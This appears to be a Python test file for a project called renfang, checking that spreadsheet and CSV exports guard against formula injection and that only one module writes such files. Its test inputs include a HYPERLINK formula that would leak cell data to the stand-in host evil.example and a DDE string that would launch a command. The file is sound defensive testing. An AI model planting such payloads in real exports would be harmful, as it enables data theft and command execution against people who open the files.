"""Formula injection (issue 11, finding 4): no file renfang writes for people to open in a
spreadsheet carries a text a spreadsheet would evaluate, and only the one writer writes them."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from renfang.core.spreadsheets import CsvWriter, guard, unguard, xlsx_bytes
from renfang.linkage.selectors import links_export
from renfang.people.models import Person
from renfang.register.exporter import register_export
from renfang.register.importer import register_import
from renfang.register.tests.test_import import TODAY, counts, reference, row, write
from renfang.sources.models import Source, SourceRecord
from renfang.stats.reports import figures_csv

__all__ = ["reference"]  # a fixture of the register's tests

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&E2,"x")'
SRC = Path(__file__).resolve().parents[2]  # src/renfang

# Modules that may use csv.writer or openpyxl's Workbook, and why. Everything else goes
# through renfang.core.spreadsheets.
WRITERS_ALLOWED = {
    "core/spreadsheets.py": "the one writer of files for people",
    "linkage/resolve/records.py": "a scratch file DuckDB reads during a resolve run",
    "synth/writer.py": "the synthetic register, test data in the register format",
    "synth/changes.py": "synthetic change files, test data",
    "synth/extracts/files.py": "synthetic department files, test data as a department sends it",
}
_WRITER_NAMES = {"writer", "DictWriter", "Workbook", "WriteOnlyCell"}


def _writer_uses(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id in {"csv", "openpyxl"}
            and node.attr in _WRITER_NAMES
        ):
            found.append(f"{node.value.id}.{node.attr} (line {node.lineno})")
        if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in {
            "csv",
            "openpyxl",
        }:
            found += [
                f"from {node.module} import {alias.name} (line {node.lineno})"
                for alias in node.names
                if alias.name in _WRITER_NAMES
            ]
    return found


def test_only_the_one_writer_writes_spreadsheets_and_csv() -> None:
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC).as_posix()
        if "/tests/" in f"/{relative}" or relative in WRITERS_ALLOWED:
            continue
        offenders += [f"{relative}: {use}" for use in _writer_uses(path)]
    assert not offenders, (
        "write files for people with renfang.core.spreadsheets (csv_writer, xlsx_bytes), "
        f"or exempt a machine-only file in WRITERS_ALLOWED: {offenders}"
    )


def test_the_architecture_test_sees_a_bypass(tmp_path: Path) -> None:
    module = tmp_path / "bypass.py"
    module.write_text(
        "import csv\nfrom openpyxl import Workbook\nw = csv.writer(open('x'))\n", encoding="utf-8"
    )
    assert len(_writer_uses(module)) == 2


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("张伟", "张伟"),
        ("a=b", "a=b"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_text_a_spreadsheet_would_evaluate_is_guarded_and_comes_back(
    value: str, written: str
) -> None:
    assert guard(value) == written
    assert unguard(written) == value


def _xlsx_cells(content: bytes) -> list[list[object]]:
    book = load_workbook(io.BytesIO(content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def _formulas(content: bytes) -> list[str]:
    """Formula elements in any sheet of a workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


def test_a_workbook_has_no_formula_and_numbers_stay_numbers() -> None:
    content = xlsx_bytes(
        title="t", header=["name", "n"], rows=[[PAYLOAD, -5], ["=1+1", 2.5], ["-", None]]
    )
    assert _formulas(content) == []
    assert _xlsx_cells(content) == [
        ["name", "n"],
        ["'" + PAYLOAD, -5],
        ["'=1+1", 2.5],
        ["'-", None],
    ]


def test_csv_cells_are_guarded_and_numbers_are_not() -> None:
    out = io.StringIO()
    writer = CsvWriter(out, lineterminator="\n")
    writer.writerow([PAYLOAD, -5, "@x", "ok"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'" + PAYLOAD, "-5", "'@x", "ok"]]


def test_stats_csv_guards_an_area_name() -> None:
    figures = {
        "area": "31",
        "name": PAYLOAD,
        "actual_population": {"total": -1, "registered": 0, "domestic_migrant": 0, "overseas": 0},
        "by_subarea": [],
    }
    rows = list(csv.reader(io.StringIO(figures_csv(figures))))
    assert rows[1][:3] == ["31", "'" + PAYLOAD, "-1"]


@pytest.mark.django_db
def test_the_links_export_guards_a_record_id_a_department_chose(tmp_path: Path) -> None:
    source = Source.objects.create(code="dept", name="dept")
    SourceRecord.objects.create(source=source, record_id=PAYLOAD)
    path = tmp_path / "links.csv"
    assert links_export(path) == 1
    with path.open(encoding="utf-8") as handle:
        assert list(csv.reader(handle))[1] == ["dept", "'" + PAYLOAD, ""]


def test_the_register_export_is_guarded_and_imports_back_unchanged(
    reference: None, tmp_path: Path
) -> None:
    register_import(path=write(tmp_path / "r.csv", [row(name=PAYLOAD)]), today=TODAY)
    before = counts()
    exported = tmp_path / "export.csv"

    assert register_export(path=exported) == 1
    with exported.open(encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["name"] == "'" + PAYLOAD
    again = register_import(path=exported, today=TODAY)

    assert again.people_unchanged == 1 and counts() == before
    assert list(Person.objects.values_list("name", flat=True)) == [PAYLOAD]
